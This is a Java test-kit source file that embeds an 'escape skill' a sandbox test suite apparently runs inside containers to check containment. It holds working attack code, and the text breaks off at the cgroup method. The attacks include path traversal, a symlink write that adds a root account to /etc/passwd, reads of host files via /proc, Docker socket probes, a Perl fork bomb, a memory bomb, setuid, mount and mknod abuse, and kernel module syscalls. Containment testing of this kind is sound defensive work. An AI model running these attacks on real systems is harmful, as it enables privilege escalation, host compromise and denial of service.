package ai.clawbot.host.testkit;

/**
 * Java source (release 17) of the attack skill the escape suite runs inside real sandboxes. Its one tool,
 * {@code attempt {attack, arg?}}, runs the named attack from inside the container (in Java, or through
 * {@code sh -c} / {@code perl -e} child processes with a bounded wait and captured output) and returns
 * {@code {attack, escaped, evidence, data}}. {@code escaped} is derived from what was observed afterwards
 * (the file exists, the exit code was 0, the socket connected, the value changed), never assumed; an
 * attack that could not even be attempted reports {@code harnessError} instead.
 * <p>
 * The source deliberately contains no backslashes, so it can live in a text block unchanged.
 */
public final class EscapeSkillSource {

    private EscapeSkillSource() {
    }

    public static final String CLASS_NAME = "escape.EscapeSkill";

    public static final String SOURCE = """
            package escape;

            import ai.clawbot.plugin.api.*;
            import com.fasterxml.jackson.databind.node.JsonNodeFactory;
            import com.fasterxml.jackson.databind.node.ObjectNode;
            import java.io.*;
            import java.net.*;
            import java.nio.channels.FileChannel;
            import java.nio.channels.SocketChannel;
            import java.nio.charset.StandardCharsets;
            import java.nio.file.*;
            import java.nio.file.attribute.PosixFilePermissions;
            import java.security.MessageDigest;
            import java.util.*;
            import java.util.concurrent.TimeUnit;

            public class EscapeSkill implements Skill {

                static final String NL = System.lineSeparator();

                /** What one attack observed. */
                static final class Out {
                    boolean escaped;
                    final StringBuilder ev = new StringBuilder();
                    final ObjectNode data = JsonNodeFactory.instance.objectNode();

                    void note(String s) {
                        ev.append(s).append(NL);
                    }

                    /** Records one observation; a true one marks the whole attack as an escape. */
                    void got(boolean worked, String what) {
                        if (worked) {
                            escaped = true;
                            ev.append("SUCCEEDED: ");
                        }
                        ev.append(what).append(NL);
                    }
                }

                interface Act {
                    void run() throws Exception;
                }

                static final class R {
                    int rc = -1;
                    boolean timedOut;
                    String out = "";

                    public String toString() {
                        return "rc=" + rc + (timedOut ? " (timed out, killed)" : "") + " out=[" + out.strip() + "]";
                    }
                }

                public Map<String, ToolHandler> tools() {
                    return Map.of("attempt", (args, ctx) -> {
                        String attack = args.path("attack").asText();
                        String arg = args.path("arg").asText("");
                        Out o = new Out();
                        ObjectNode n = JsonNodeFactory.instance.objectNode();
                        try {
                            run(attack, arg, o);
                        } catch (Throwable e) {
                            n.put("harnessError", e.toString());
                        }
                        n.put("attack", attack).put("escaped", o.escaped).put("evidence", o.ev.toString());
                        n.set("data", o.data);
                        return ToolResult.of((o.escaped ? "ESCAPED " : "contained ") + attack + NL + o.ev, n);
                    });
                }

                static void run(String attack, String arg, Out o) throws Exception {
                    switch (attack) {
                        case "noop" -> noop(o);
                        case "rootfs" -> rootfs(o);
                        case "dotdot" -> dotdot(o);
                        case "symlink-passwd" -> symlinkPasswd(o);
                        case "symlink-host" -> symlinkHost(o, arg);
                        case "readhost-path" -> readHostByPath(o, arg);
                        case "readhost-proc" -> readHostViaProc(o, arg);
                        case "internet" -> internet(o, arg);
                        case "gateway" -> gateway(o, Integer.parseInt(arg));
                        case "dockersock" -> dockerSocket(o);
                        case "resolve" -> resolve(o, arg);
                        case "ifaces" -> ifaces(o);
                        case "forkbomb" -> forkBomb(o, arg);
                        case "membomb" -> memBomb(o);
                        case "spin" -> spin(o);
                        case "setuid" -> setuid(o);
                        case "mount" -> mount(o);
                        case "chown" -> chown(o);
                        case "rawsocket" -> rawSocket(o);
                        case "mknod" -> mknod(o);
                        case "hostname" -> hostname(o);
                        case "module" -> module(o);
                        case "procsys" -> procSys(o);
                        case "sysrq" -> sysrq(o);
                        case "cgroup" -> cgroup(o);
                        case "ptrace" -> ptrace(o, arg);
                        case "devices" -> devices(o);
                        case "userns" -> userns(o);
                        case "chroot" -> chroot(o);
                        case "caps" -> caps(o);
                        case "pluginjar" -> pluginJar(o);
                        case "runtimelib" -> runtimeLib(o);
                        case "tmpfill" -> tmpFill(o);
                        case "tmpexec" -> tmpExec(o);
                        case "flood" -> flood(o, arg);
                        case "stderrflood" -> stderrFlood(o, arg);
                        case "env" -> env(o);
                        case "rowrite" -> roWrite(o, arg);
                        default -> throw new IllegalArgumentException("unknown attack " + attack);
                    }
                }

                // ---------------------------------------------------------------- helpers

                static R exec(long ms, List<String> cmd) throws Exception {
                    File f = File.createTempFile("cmd", ".out");
                    R r = new R();
                    try {
                        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).redirectOutput(f)
                                .redirectInput(new File("/dev/null")).start();
                        if (p.waitFor(ms, TimeUnit.MILLISECONDS)) {
                            r.rc = p.exitValue();
                        } else {
                            r.timedOut = true;
                            p.descendants().forEach(ProcessHandle::destroyForcibly);
                            p.destroyForcibly();
                            p.waitFor(2, TimeUnit.SECONDS);
                        }
                        r.out = tail(f.toPath(), 4000);
                    } finally {
                        f.delete();
                    }
                    return r;
                }

                static R sh(String script) throws Exception {
                    return exec(10_000, List.of("sh", "-c", script));
                }

                static R perl(String script, String... args) throws Exception {
                    List<String> c = new ArrayList<>(List.of("perl", "-e", script));
                    c.addAll(List.of(args));
                    return exec(15_000, c);
                }

                static String tail(Path p, int max) {
                    try {
                        byte[] b = Files.readAllBytes(p);
                        int from = Math.max(0, b.length - max);
                        return new String(b, from, b.length - from, StandardCharsets.UTF_8);
                    } catch (IOException e) {
                        return "(" + e + ")";
                    }
                }

                static String head(Path p, int max) {
                    try {
                        byte[] b = Files.readAllBytes(p);
                        return new String(b, 0, Math.min(b.length, max), StandardCharsets.UTF_8);
                    } catch (IOException e) {
                        return "(" + e + ")";
                    }
                }

                /** A file's content, stripped, or null when it cannot be read. */
                static String read(String p) {
                    try {
                        return Files.readString(Path.of(p)).strip();
                    } catch (Exception e) {
                        return null;
                    }
                }

                static String sha(String p) {
                    try {
                        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(Path.of(p))));
                    } catch (Exception e) {
                        return "(" + e.getClass().getSimpleName() + ")";
                    }
                }

                static boolean exists(String p) {
                    return Files.exists(Path.of(p), LinkOption.NOFOLLOW_LINKS);
                }

                static String status(String key) {
                    String s = read("/proc/self/status");
                    if (s == null) {
                        return null;
                    }
                    for (String line : s.lines().toList()) {
                        if (line.startsWith(key + ":")) {
                            return line.substring(key.length() + 1).replace((char) 9, ' ').trim();
                        }
                    }
                    return null;
                }

                static String pidStatus(long pid, String key) {
                    String s = read("/proc/" + pid + "/status");
                    if (s == null) {
                        return null;
                    }
                    for (String line : s.lines().toList()) {
                        if (line.startsWith(key + ":")) {
                            return line.substring(key.length() + 1).replace((char) 9, ' ').trim().replaceAll(" +", " ");
                        }
                    }
                    return null;
                }

                static boolean write(Out o, String path, String content, OpenOption... opts) {
                    try {
                        Files.writeString(Path.of(path), content, opts);
                        o.got(true, "wrote " + path);
                        return true;
                    } catch (Exception e) {
                        o.note("write " + path + ": " + e);
                        return false;
                    }
                }

                static void act(Out o, String what, Act a) {
                    try {
                        a.run();
                        o.got(true, what);
                    } catch (Exception e) {
                        o.note(what + ": " + e);
                    }
                }

                static String q(String s) {
                    return "'" + s.replace("'", "") + "'";
                }

                /** Parses "k=v k=v" tokens of a line into data and a map. */
                static Map<String, String> kv(Out o, String text) {
                    Map<String, String> m = new LinkedHashMap<>();
                    for (String tok : text.strip().split(" +")) {
                        int eq = tok.indexOf('=');
                        if (eq > 0) {
                            m.put(tok.substring(0, eq), tok.substring(eq + 1));
                            o.data.put(tok.substring(0, eq), tok.substring(eq + 1));
                        }
                    }
                    return m;
                }

                static boolean isLong(String s) {
                    try {
                        Long.parseLong(s);
                        return true;
                    } catch (Exception e) {
                        return false;
                    }
                }

                // ---------------------------------------------------------------- attacks

                static void noop(Out o) {
                    o.note("uid " + status("Uid") + ", NoNewPrivs " + status("NoNewPrivs"));
                    o.data.put("hostname", read("/proc/sys/kernel/hostname"));
                    o.data.put("pidsLimit", read("/sys/fs/cgroup/pids/pids.max"));
                }

                static void rootfs(Out o) throws Exception {
                    for (String p : List.of("/escape", "/etc/escape", "/usr/bin/escape", "/opt/escape", "/opt/claw/escape",
                            "/var/escape", "/root/escape", "/home/escape", "/lib/escape")) {
                        write(o, p, "pwned");
                    }
                    R r = sh("echo pwned > /escape-sh; touch /etc/escape-sh; mkdir /escape-dir; cp /bin/sh /usr/local/bin/escape-sh");
                    o.note("sh: " + r);
                    for (String p : List.of("/escape", "/etc/escape", "/usr/bin/escape", "/escape-sh", "/etc/escape-sh", "/escape-dir",
                            "/usr/local/bin/escape-sh")) {
                        o.got(exists(p), p + (exists(p) ? " exists afterwards" : " absent afterwards"));
                    }
                }

                static void dotdot(Out o) throws Exception {
                    for (String p : List.of("/workspace/../escape", "/workspace/../../escape", "/workspace/./../etc/escape",
                            "../escape", "../../tmp/../escape", "/workspace/..//escape")) {
                        write(o, p, "pwned");
                    }
                    R r = sh("cd /workspace && echo pwned > ../escape-sh; cd /workspace/.. && echo pwned > escape-sh2; pwd");
                    o.note("sh: " + r);
                    for (String p : List.of("/escape", "/etc/escape", "/escape-sh", "/escape-sh2")) {
                        o.got(exists(p), p + (exists(p) ? " exists afterwards" : " absent afterwards"));
                    }
                }

                static void symlinkPasswd(Out o) throws Exception {
                    Path link = Path.of("/workspace/link-passwd");
                    Files.deleteIfExists(link);
                    Files.createSymbolicLink(link, Path.of("/etc/passwd"));
                    Path dirLink = Path.of("/workspace/link-etc");
                    Files.deleteIfExists(dirLink);
                    Files.createSymbolicLink(dirLink, Path.of("/etc"));
                    o.note("created " + link + " -> " + Files.readSymbolicLink(link) + " and " + dirLink + " -> /etc");
                    String before = sha("/etc/passwd");
                    write(o, link.toString(), "pwned::0:0::/:/bin/sh" + NL, StandardOpenOption.APPEND);
                    write(o, "/workspace/link-etc/escape", "pwned");
                    R r = sh("echo 'pwned2::0:0::/:/bin/sh' >> /workspace/link-passwd; echo pwned > /workspace/link-etc/escape-sh");
                    o.note("sh: " + r);
                    o.got(!before.equals(sha("/etc/passwd")), "/etc/passwd hash " + before + " -> " + sha("/etc/passwd"));
                    String pw = read("/etc/passwd");
                    o.got(pw != null && pw.contains("pwned"), "/etc/passwd contains pwned: " + (pw != null && pw.contains("pwned")));
                    o.got(exists("/etc/escape") || exists("/etc/escape-sh"), "/etc/escape created: " + (exists("/etc/escape") || exists("/etc/escape-sh")));
                }

                static void symlinkHost(Out o, String hostPath) throws Exception {
                    Path target = Path.of(hostPath);
                    Path link = Path.of("/workspace/link-host");
                    Files.deleteIfExists(link);
                    Files.createSymbolicLink(link, target);
                    Path dirLink = Path.of("/workspace/link-hostdir");
                    Files.deleteIfExists(dirLink);
                    Files.createSymbolicLink(dirLink, target.getParent());
                    o.note("created " + link + " -> " + target + " and " + dirLink + " -> " + target.getParent());
                    o.got(Files.exists(target), hostPath + (Files.exists(target) ? " is visible in the sandbox" : " does not exist in the sandbox"));
                    write(o, link.toString(), "pwned", StandardOpenOption.APPEND);
                    write(o, "/workspace/link-hostdir/escape", "pwned");
                    R r = sh("echo pwned >> /workspace/link-host; echo pwned > /workspace/link-hostdir/escape-sh; cat /workspace/link-host");
                    o.got(r.out.contains("pwned") || r.out.contains("marker"), "sh through the links: " + r);
                }

                static void readAll(Out o, List<String> paths) {
                    for (String p : paths) {
                        try {
                            byte[] b = Files.readAllBytes(Path.of(p));
                            o.got(true, "read " + p + " (" + b.length + " bytes)");
                        } catch (Exception e) {
                            o.note(p + ": " + e);
                        }
                    }
                }

                static void readHostByPath(Out o, String hostPath) throws Exception {
                    String name = Path.of(hostPath).getFileName().toString();
                    readAll(o, List.of(hostPath, "/workspace/../" + name, "/workspace/../../" + name, "../" + name));
                    R r = sh("cat " + q(hostPath) + " /workspace/../" + q(name));
                    o.got(r.rc == 0, "sh cat: " + r.toString().replace("host-secret", "(redacted)"));
                }

                static void readHostViaProc(Out o, String hostPath) throws Exception {
                    String name = Path.of(hostPath).getFileName().toString();
                    readAll(o, List.of("/proc/1/root" + hostPath, "/proc/self/root" + hostPath, "/proc/1/cwd/../" + name,
                            "/proc/self/cwd/../" + name, "/proc/1/root/workspace/../" + name, "/proc/self/root/../../.." + hostPath));
                    R r = sh("cat /proc/1/root" + q(hostPath) + " /proc/self/root" + q(hostPath));
                    o.got(r.rc == 0, "sh cat: " + r.toString().replace("host-secret", "(redacted)"));
                    o.note("/proc/1/cmdline: " + head(Path.of("/proc/1/cmdline"), 300).replace((char) 0, ' '));
                }

                static void internet(Out o, String hostPort) throws Exception {
                    o.note("/etc/resolv.conf: " + read("/etc/resolv.conf"));
                    String host = hostPort.substring(0, hostPort.lastIndexOf(':'));
                    int port = Integer.parseInt(hostPort.substring(hostPort.lastIndexOf(':') + 1));
                    try (Socket s = new Socket()) {
                        s.connect(new InetSocketAddress(host, port), 3000);
                        o.got(true, "connected to " + hostPort + " via " + s.getInetAddress());
                    } catch (Exception e) {
                        o.note("connect " + hostPort + ": " + e);
                    }
                    try {
                        URLConnection c = new URL("http://" + hostPort + "/").openConnection();
                        c.setConnectTimeout(3000);
                        c.setReadTimeout(3000);
                        try (InputStream in = c.getInputStream()) {
                            o.got(true, "HTTP GET http://" + hostPort + "/ returned " + in.readAllBytes().length + " bytes");
                        }
                    } catch (Exception e) {
                        o.note("HTTP GET: " + e);
                    }
                    R r = perl("use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], Timeout => 3); if ($s) { print qq{connected}, chr(10); exit 0 } print qq{failed: $@}, chr(10); exit 1", hostPort);
                    o.got(r.rc == 0, "perl connect: " + r);
                }

                static void gateway(Out o, int port) throws Exception {
                    try (Socket s = new Socket()) {
                        s.connect(new InetSocketAddress("127.0.0.1", port), 1000);
                        o.got(true, "connected to 127.0.0.1:" + port);
                    } catch (Exception e) {
                        o.note("connect 127.0.0.1:" + port + ": " + e);
                    }
                    for (String name : List.of("host.docker.internal", "gateway.docker.internal", "host-gateway", "docker-host")) {
                        try {
                            InetAddress[] a = InetAddress.getAllByName(name);
                            o.got(true, name + " resolves to " + Arrays.toString(a));
                        } catch (Exception e) {
                            o.note(name + ": " + e);
                        }
                    }
                    R r = perl("use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => qq{127.0.0.1:$ARGV[0]}, Timeout => 2); exit($s ? 0 : 1)", String.valueOf(port));
                    o.got(r.rc == 0, "perl connect 127.0.0.1:" + port + ": " + r);
                }

                static void dockerSocket(Out o) throws Exception {
                    for (String p : List.of("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                            "/var/run/docker/containerd/containerd.sock", "/run/docker/containerd/containerd.sock",
                            "/var/run/containerd/containerd.sock", "/run/docker.pid")) {
                        o.got(exists(p), p + (exists(p) ? " exists" : " absent"));
                        try (SocketChannel ch = SocketChannel.open(StandardProtocolFamily.UNIX)) {
                            ch.connect(UnixDomainSocketAddress.of(p));
                            o.got(true, "connected to unix:" + p);
                        } catch (Exception e) {
                            o.note("connect unix:" + p + ": " + e);
                        }
                    }
                    R r = exec(10_000, List.of("find", "/", "-xdev", "-type", "s"));
                    o.note("unix sockets on the container's root fs: [" + r.out.strip() + "]");
                    String unix = read("/proc/net/unix");
                    boolean dockerish = unix != null && (unix.contains("docker") || unix.contains("containerd"));
                    o.got(dockerish, "docker/containerd sockets in /proc/net/unix: " + dockerish);
                }

                static void resolve(Out o, String names) throws Exception {
                    o.note("/etc/resolv.conf: " + read("/etc/resolv.conf"));
                    for (String name : names.split(",")) {
                        if (name.isBlank()) {
                            continue;
                        }
                        try {
                            InetAddress[] a = InetAddress.getAllByName(name.strip());
                            boolean foreign = Arrays.stream(a).anyMatch(x -> !x.isLoopbackAddress());
                            o.got(foreign, name + " resolves to " + Arrays.toString(a));
                        } catch (Exception e) {
                            o.note(name + ": " + e);
                        }
                        R r = exec(10_000, List.of("getent", "hosts", name.strip()));
                        o.got(r.rc == 0 && !r.out.contains("127.0.0.1") && !r.out.contains("::1"), "getent hosts " + name + ": " + r);
                    }
                }

                static void ifaces(Out o) throws Exception {
                    for (NetworkInterface ni : Collections.list(NetworkInterface.getNetworkInterfaces())) {
                        List<String> addrs = new ArrayList<>();
                        boolean foreign = !ni.isLoopback() || !"lo".equals(ni.getName());
                        for (InetAddress a : Collections.list(ni.getInetAddresses())) {
                            addrs.add(a.getHostAddress());
                            foreign |= !a.isLoopbackAddress();
                        }
                        o.got(foreign, "interface " + ni.getName() + " up=" + ni.isUp() + " " + addrs);
                    }
                    List<String> sys = new ArrayList<>();
                    try (var s = Files.list(Path.of("/sys/class/net"))) {
                        s.forEach(p -> sys.add(p.getFileName().toString()));
                    }
                    Collections.sort(sys);
                    o.got(!sys.equals(List.of("lo")), "/sys/class/net: " + sys);
                    String route = read("/proc/net/route");
                    long routes = route == null ? 0 : route.lines().count() - 1;
                    o.got(routes > 0, "IPv4 routes: " + routes);
                    o.data.put("ifaces", String.join(",", sys));
                }

                static final String FORK_BOMB = String.join(NL,
                        "use POSIX ();",
                        "syscall(157, 36, 1, 0, 0, 0);",
                        "my $cg = '/sys/fs/cgroup/pids';",
                        "sub rd { open(my $f, '<', $_[0]) or return 'unreadable'; local $/; my $v = <$f>; $v = '' unless defined $v; $v =~ s/^[[:space:]]+|[[:space:]]+$//g; $v =~ s/[[:space:]]+/_/g; return $v }",
                        "my $max = rd(qq{$cg/pids.max});",
                        "my $before = rd(qq{$cg/pids.current});",
                        "my $pid = fork();",
                        "if (defined $pid && $pid == 0) { open(STDERR, q{>}, q{/dev/null}); exec('sh', '-c', 'b() { b | b & }; b; sleep 30'); POSIX::_exit(127); }",
                        "my ($pp, $pc) = (0, 0);",
                        "my $end = time() + $ARGV[0];",
                        "while (time() < $end) {",
                        "  opendir(my $d, '/proc'); my $n = grep { /^[0-9]+$/ } readdir($d); closedir($d);",
                        "  $pp = $n if $n > $pp;",
                        "  my $c = rd(qq{$cg/pids.current}); $pc = $c if $c =~ /^[0-9]+$/ && $c > $pc;",
                        "  select(undef, undef, undef, 0.02);",
                        "}",
                        "my $events = rd(qq{$cg/pids.events});",
                        "my $peak = rd(qq{$cg/pids.peak});",
                        "for my $i (1 .. 500) { kill('KILL', -1); 1 while waitpid(-1, 1) > 0; last if waitpid(-1, 1) == -1; select(undef, undef, undef, 0.02); }",
                        "print join(' ', qq{max=$max}, qq{before=$before}, qq{peakProcs=$pp}, qq{peakTasks=$pc}, qq{peak=$peak}, qq{events=$events}, 'left=' . rd(qq{$cg/pids.current})), chr(10);");

                static void forkBomb(Out o, String seconds) throws Exception {
                    R r = exec(30_000, List.of("perl", "-e", FORK_BOMB, seconds.isBlank() ? "4" : seconds));
                    o.note("fork bomb: " + r);
                    Map<String, String> m = kv(o, r.out.lines().reduce((a, b) -> b).orElse(""));
                    String max = m.getOrDefault("max", "?");
                    o.got(!isLong(max), "pids.max is " + max + (isLong(max) ? "" : " (no numeric limit)"));
                    if (isLong(max)) {
                        long limit = Long.parseLong(max);
                        for (String k : List.of("peakProcs", "peakTasks", "peak")) {
                            String v = m.getOrDefault(k, "0");
                            o.got(isLong(v) && Long.parseLong(v) > limit, k + "=" + v + " vs limit " + limit);
                        }
                    }
                    o.data.put("rc", r.rc);
                }

                static void memBomb(Out o) throws Exception {
                    String cg = "/sys/fs/cgroup/memory/";
                    String limit = read(cg + "memory.limit_in_bytes");
                    R r = perl("my $x = 'x' x (600 * 1024 * 1024); print length($x), chr(10);");
                    String maxUsage = read(cg + "memory.max_usage_in_bytes");
                    String failcnt = read(cg + "memory.failcnt");
                    String oom = read(cg + "memory.oom_control");
                    String oomKills = "0";
                    if (oom != null) {
                        for (String line : oom.lines().toList()) {
                            if (line.startsWith("oom_kill ")) {
                                oomKills = line.substring(9).trim();
                            }
                        }
                    }
                    o.data.put("rc", r.rc).put("limit", limit).put("maxUsage", maxUsage).put("failcnt", failcnt).put("oomKills", oomKills);
                    o.got(r.rc == 0 && r.out.contains("629145600"), "perl allocating 600 MiB: " + r
                            + (r.rc == 137 ? " (SIGKILL: the OOM killer)" : ""));
                    o.got(!isLong(limit) || Long.parseLong(limit) > (1L << 40), "memory limit " + limit);
                    if (isLong(limit) && isLong(maxUsage)) {
                        o.got(Long.parseLong(maxUsage) > Long.parseLong(limit), "max usage " + maxUsage + " vs limit " + limit);
                    }
                    o.note("failcnt " + failcnt + ", oom kills " + oomKills);
                }

                static volatile long sink;

                static void spin(Out o) {
                    for (int i = 0; i < 2; i++) {
                        Thread t = new Thread(() -> {
                            while (true) {
                                sink++;
                            }
                        });
                        t.setDaemon(true);
                        t.start();
                    }
                    long x = 1;
                    while (x != 0) {
                        x = (x * 31 + 7) | 1; // odd forever: never 0
                    }
                    o.got(true, "the spin loop ended and the call returned");
                }

                static void setuid(Out o) throws Exception {
                    String nnp = status("NoNewPrivs");
                    o.data.put("NoNewPrivs", nnp);
                    o.got(!"1".equals(nnp), "NoNewPrivs=" + nnp);
                    R f = exec(15_000, List.of("find", "/", "-xdev", "-perm", "-4000", "-type", "f"));
                    List<String> bins = f.out.lines().filter(l -> l.startsWith("/")).sorted().toList();
                    o.note("setuid binaries: " + bins);
                    o.data.put("setuidBinaries", bins.size());
                    Files.createDirectories(Path.of("/tmp/m"));
                    for (String b : bins) {
                        String name = Path.of(b).getFileName().toString();
                        List<String> cmd = switch (name) {
                            case "su" -> List.of(b, "root", "-c", "id -u");
                            case "newgrp" -> List.of(b, "root");
                            case "gpasswd" -> List.of(b, "-a", "nobody", "root");
                            case "mount" -> List.of(b, "-t", "tmpfs", "none", "/tmp/m");
                            case "umount" -> List.of(b, "/tmp");
                            case "chfn" -> List.of(b, "-f", "pwned");
                            case "chsh" -> List.of(b, "-s", "/bin/sh");
                            default -> List.of(b);
                        };
                        File out = File.createTempFile("suid", ".out");
                        // stdin stays an open pipe, so password prompts block while the credentials are sampled
                        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).redirectOutput(out).start();
                        Set<String> uids = new TreeSet<>();
                        long end = System.nanoTime() + 700_000_000L;
                        while (System.nanoTime() < end && p.isAlive()) {
                            String u = pidStatus(p.pid(), "Uid");
                            if (u != null) {
                                uids.add(u);
                            }
                            Thread.sleep(3);
                        }
                        boolean alive = p.isAlive();
                        p.destroyForcibly();
                        p.waitFor(2, TimeUnit.SECONDS);
                        String text = head(out.toPath(), 300).strip().replace(NL, " | ");
                        out.delete();
                        boolean euidRoot = uids.stream().anyMatch(u -> u.split(" ").length > 1 && u.split(" ")[1].equals("0"));
                        boolean suRoot = name.equals("su") && !alive && p.exitValue() == 0 && text.lines().anyMatch(l -> l.strip().equals("0"));
                        boolean mounted = name.equals("mount") && !alive && p.exitValue() == 0;
                        o.got(euidRoot || suRoot || mounted, b + ": Uid (real effective saved fs) seen " + uids + ", "
                                + (alive ? "still waiting after 700 ms (killed)" : "exit " + p.exitValue()) + ", output: " + text);
                    }
                    String uid = status("Uid");
                    o.got(uid != null && uid.contains("0 ") && uid.split(" ")[1].equals("0"), "own Uid " + uid);
                }

                static void mount(Out o) throws Exception {
                    Files.createDirectories(Path.of("/tmp/m"));
                    List<String> tries = List.of("mount -t tmpfs none /tmp/m", "mount -o remount,rw /", "mount --bind /tmp /opt/claw/lib",
                            "mount -t proc proc /tmp/m", "mount -t cgroup -o memory cgroup /tmp/m", "mount -o remount,rw /sys/fs/cgroup",
                            "umount /tmp", "umount /workspace");
                    for (String t : tries) {
                        R r = sh(t);
                        o.got(r.rc == 0, t + ": " + r);
                    }
                    R r = perl("my ($s, $t, $f) = ('none', '/tmp/m', 'tmpfs'); my $r = syscall(165, $s, $t, $f, 0, 0); print qq{mount(2)=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1);");
                    o.got(r.rc == 0, "mount(2) syscall: " + r);
                    String mounts = read("/proc/self/mounts");
                    o.got(mounts != null && mounts.contains(" /tmp/m "), "/tmp/m is a mount point: " + (mounts != null && mounts.contains(" /tmp/m ")));
                }

                static void chown(Out o) throws Exception {
                    Path f = Path.of("/tmp/own-" + System.nanoTime());
                    Files.writeString(f, "x");
                    Path w = Path.of("/workspace/own-test");
                    Files.deleteIfExists(w);
                    Files.writeString(w, "x");
                    R r = sh("chown 0:0 " + f + " " + w + "; chgrp 0 " + f);
                    o.note("chown 0:0: " + r);
                    act(o, "Files.setOwner(root)", () -> Files.setOwner(f, f.getFileSystem().getUserPrincipalLookupService().lookupPrincipalByName("root")));
                    R p = perl("my $r = chown(0, 0, $ARGV[0]); print qq{perl chown changed $r files: $!}, chr(10); exit($r ? 0 : 1)", f.toString());
                    o.note("perl: " + p);
                    for (Path x : List.of(f, w)) {
                        int uid = (Integer) Files.getAttribute(x, "unix:uid");
                        int gid = (Integer) Files.getAttribute(x, "unix:gid");
                        o.got(uid == 0 || gid == 0, x + " owner afterwards " + uid + ":" + gid);
                    }
                    Files.deleteIfExists(f);
                    Files.deleteIfExists(w);
                }

                static void rawSocket(Out o) throws Exception {
                    R r = perl("my @t = ([2, 3, 1, q{AF_INET/SOCK_RAW/ICMP}], [2, 3, 255, q{AF_INET/SOCK_RAW/RAW}], [10, 3, 58, q{AF_INET6/SOCK_RAW/ICMPV6}], [17, 3, 768, q{AF_PACKET/SOCK_RAW/ETH_P_ALL}]); my $ok = 0; for my $t (@t) { if (socket(my $s, $t->[0], $t->[1], $t->[2])) { print qq{OPENED $t->[3]}, chr(10); $ok++ } else { print qq{$t->[3]: $!}, chr(10) } } exit($ok ? 0 : 1);");
                    o.got(r.rc == 0 || r.out.contains("OPENED"), "raw sockets: " + r);
                    R s = perl("exit(socket(my $s, 2, 3, 1) ? 0 : 1)");
                    o.got(s.rc == 0, "perl socket(S, 2, 3, 1): " + s);
                }

                static void mknod(Out o) throws Exception {
                    R r = sh("mknod /tmp/n c 1 3; mknod /tmp/mem c 1 1; mknod /tmp/sda b 8 0; mknod /workspace/n c 1 3");
                    o.note("mknod: " + r);
                    R p = perl("my $p = '/tmp/pmem'; my $r = syscall(133, $p, 8630, 257); print qq{mknod(2)=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(p.rc == 0, "mknod(2) char 1:1: " + p);
                    for (String x : List.of("/tmp/n", "/tmp/mem", "/tmp/sda", "/workspace/n", "/tmp/pmem")) {
                        o.got(exists(x), x + (exists(x) ? " exists" : " absent"));
                    }
                    R fifo = sh("mkfifo /tmp/fifo-control && rm /tmp/fifo-control");
                    o.note("control: an unprivileged mkfifo in /tmp " + (fifo.rc == 0 ? "works" : "fails: " + fifo));
                    o.data.put("controlFifo", fifo.rc == 0);
                }

                static void hostname(Out o) throws Exception {
                    String before = read("/proc/sys/kernel/hostname");
                    R r1 = sh("hostname pwned");
                    o.got(r1.rc == 0, "hostname pwned: " + r1);
                    R r2 = perl("my $n = 'pwned2'; my $r = syscall(170, $n, length($n)); print qq{sethostname=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(r2.rc == 0, "sethostname(2): " + r2);
                    R r3 = perl("my $n = 'pwned3'; my $r = syscall(171, $n, length($n)); print qq{setdomainname=$r errno=}, $!+0, chr(10); exit($r == 0 ? 0 : 1)");
                    o.got(r3.rc == 0, "setdomainname(2): " + r3);
                    String after = read("/proc/sys/kernel/hostname");
                    o.got(!Objects.equals(before, after), "hostname " + before + " -> " + after);
                }

                static void module(Out o) throws Exception {
                    for (String tool : List.of("insmod", "modprobe", "rmmod")) {
                        R w = sh("command -v " + tool);
                        if (w.rc == 0) {
                            R r = sh(tool + " /tmp/none.ko");
                            o.got(r.rc == 0, tool + ": " + r);
                        } else {
                            o.note(tool + " is not installed");
                        }
                    }
                    R r = perl("my $img = 'x' x 64; my $p = 'clawbot=1'; my $r1 = syscall(175, $img, length($img), $p); my $e1 = $!+0;"
                            + " open(my $f, '<', '/opt/claw/plugin/plugin.jar') or die; my $e = ''; my $r2 = syscall(313, fileno($f), $e, 0); my $e2 = $!+0;"
                            + " my $n = 'clawbot_escape_none'; my $r3 = syscall(176, $n, 2048); my $e3 = $!+0;"
                            + " print qq{init_module=$r1/$e1 finit_module=$r2/$e2 delete_module=$r3/$e3}, chr(10);");
                    o.note("perl: " + r);
                    Map<String, String> m = kv(o, r.out.lines().reduce((a, b) -> b).orElse(""));
                    o.got(m.size() != 3, "all three module syscalls attempted: " + m.keySet());
                    for (Map.Entry<String, String> e : m.entrySet()) {
                        String[] re = e.getValue().split("/");
                        // EPERM (1) is the capability/seccomp refusal; anything else means the call got past it
                        boolean past = !re[0].equals("-1") || !(re[1].equals("1") || re[1].equals("38"));
                        o.got(past, e.getKey() + " returned " + re[0] + " errno " + (re.length > 1 ? re[1] : "?"));
                    }
                }

                static void procSys(Out o) throws Exception {
                    // Writes back the value read, so even a successful write changes nothing.
                    for (String p : List.of("/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                            "/proc/sys/kernel/sysrq", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/panic",
                            "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/suid_dumpable")) {
                        String cur = read(p);
                        if (cur == null) {
                            o.note(p + " unreadable");
                            continue;
                        }
                        write(o, p, cur + NL);
                    }
                    write(o, "/proc/sys/vm/drop_caches", "1" + NL);
                    R r = sh("echo 1 > /proc/sys/vm/drop_caches");
                    o.got(r.rc == 0, "sh echo 1 > /proc/sys/vm/drop_caches: " + r);
                }

                static void sysrq(Out o) throws Exception {
                    o.note("/proc/sysrq-trigger " + (exists("/proc/sysrq-trigger") ? "exists" : "absent"));
                    write(o, "/proc/sysrq-trigger", "h");
                    R r = sh("echo h > /proc/sysrq-trigger");
                    o.got(r.rc == 0, "sh echo h > /proc/sysrq-trigger: " + r);
                    String cur = read("/proc/sys/kernel/sysrq");
                    if (cur != null) {
                        write(o, "/proc/sys/kernel/sysrq", cur + NL);
                    }
                }

                static void cgroup(Out o) throws Exception {
